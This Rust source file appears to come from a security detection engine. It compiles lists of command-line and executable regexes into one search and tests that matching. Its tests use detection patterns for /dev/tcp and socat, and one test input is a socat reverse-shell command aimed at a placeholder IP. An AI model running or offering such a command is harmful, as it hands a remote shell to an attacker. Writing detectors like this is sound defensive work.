//! A rule's list of regular expressions (`exe_regex_any`,
//! `cmdline_regex_any`, …) matched as one: whether any matches is one
//! search of one compiled alternation; which one matched, and where (for
//! the trace), is asked of the patterns one by one only when one does,
//! each compiled then, once. Loading pays one compile per list instead of
//! one per pattern: a compile costs about 100 µs whatever the pattern, and
//! a one-shot paid for 40 of them before its first finding.

use std::ops::Range;
use std::sync::OnceLock;

use regex::{Regex, RegexBuilder};

/// The patterns of one list, compiled as one.
#[derive(Debug, Clone)]
pub struct RegexList {
    /// Every pattern as one alternation; `None` when they do not combine
    /// (a capture name used twice): then each was compiled at load.
    any: Option<Regex>,
    patterns: Vec<Pattern>,
}

#[derive(Debug, Clone)]
struct Pattern {
    source: String,
    ignore_case: bool,
    /// `None` only if it stopped compiling after it compiled at load
    /// (alone or in the alternation, with the same flags): never.
    compiled: OnceLock<Option<Regex>>,
}

impl Pattern {
    fn regex(&self) -> Option<&Regex> {
        self.compiled.get_or_init(|| build(&self.source, self.ignore_case).ok()).as_ref()
    }
}

fn build(source: &str, ignore_case: bool) -> Result<Regex, regex::Error> {
    RegexBuilder::new(source).case_insensitive(ignore_case).build()
}

impl RegexList {
    /// Compile `patterns`; on error, the index of the pattern that does not
    /// compile alone and why.
    pub fn compile(patterns: &[String], ignore_case: bool) -> Result<Self, (usize, regex::Error)> {
        let mut list: Vec<Pattern> = patterns.iter().map(|p| Pattern { source: p.clone(), ignore_case, compiled: OnceLock::new() }).collect();
        if list.is_empty() {
            return Ok(Self { any: None, patterns: list });
        }
        let joined = patterns.iter().map(|p| format!("(?:{p})")).collect::<Vec<_>>().join("|");
        if let Ok(any) = build(&joined, ignore_case) {
            return Ok(Self { any: Some(any), patterns: list });
        }
        // Find the culprit, or keep every pattern compiled on its own.
        for (i, p) in list.iter_mut().enumerate() {
            let re = build(&p.source, ignore_case).map_err(|e| (i, e))?;
            let _ = p.compiled.set(Some(re));
        }
        Ok(Self { any: None, patterns: list })
    }

    /// The first pattern (in list order) that matches `text`, with where.
    pub fn first_match(&self, text: &str) -> Option<(&Regex, Range<usize>)> {
        if self.any.as_ref().is_some_and(|any| !any.is_match(text)) {
            return None;
        }
        self.patterns.iter().filter_map(Pattern::regex).find_map(|re| re.find(text).map(|m| (re, m.range())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(patterns: &[&str], ignore_case: bool) -> RegexList {
        RegexList::compile(&patterns.iter().map(|p| (*p).to_string()).collect::<Vec<_>>(), ignore_case).expect("compiles")
    }

    /// The first pattern in list order wins, not the leftmost match in the
    /// text, and the range is that pattern's own.
    #[test]
    fn the_first_pattern_in_list_order_answers_with_its_own_range() {
        let l = list(&["world", "^hello"], false);
        let (re, range) = l.first_match("hello world").expect("a match");
        assert_eq!((re.as_str(), range), ("world", 6..11));
        assert!(l.first_match("goodbye").is_none());
    }

    /// Case folding applies to every pattern; flags and anchors stay inside
    /// their own pattern.
    #[test]
    fn flags_and_anchors_stay_with_their_pattern() {
        let l = list(&["^/dev/(tcp|udp)/", r"\bsocat\b.*\bexec:"], true);
        assert_eq!(l.first_match("SOCAT tcp:1.2.3.4:1 EXEC:/bin/sh").map(|(re, _)| re.as_str()), Some(r"\bsocat\b.*\bexec:"));
        assert!(l.first_match("cat /dev/tcp/x").is_none(), "the anchor of the first pattern still holds");
        let strict = list(&["^/tmp/", "(?i)/SHM/"], false);
        assert!(strict.first_match("/TMP/x").is_none());
        assert!(strict.first_match("/dev/shm/x").is_some(), "an inline flag applies to its own pattern");
    }

    /// A bad pattern is named by its index; patterns that only fail
    /// together (a capture name twice) still work one by one; an empty
    /// list matches nothing.
    #[test]
    fn a_bad_pattern_is_named_and_lists_that_do_not_combine_still_work() {
        let bad = RegexList::compile(&["ok".to_string(), "(unclosed".to_string()], false).expect_err("a bad pattern");
        assert_eq!(bad.0, 1);
        let twice = list(&["(?P<x>a)", "(?P<x>b)"], false);
        assert!(twice.any.is_none());
        assert_eq!(twice.first_match("b").map(|(_, r)| r), Some(0..1));
        assert!(list(&[], false).first_match("anything").is_none());
    }
}
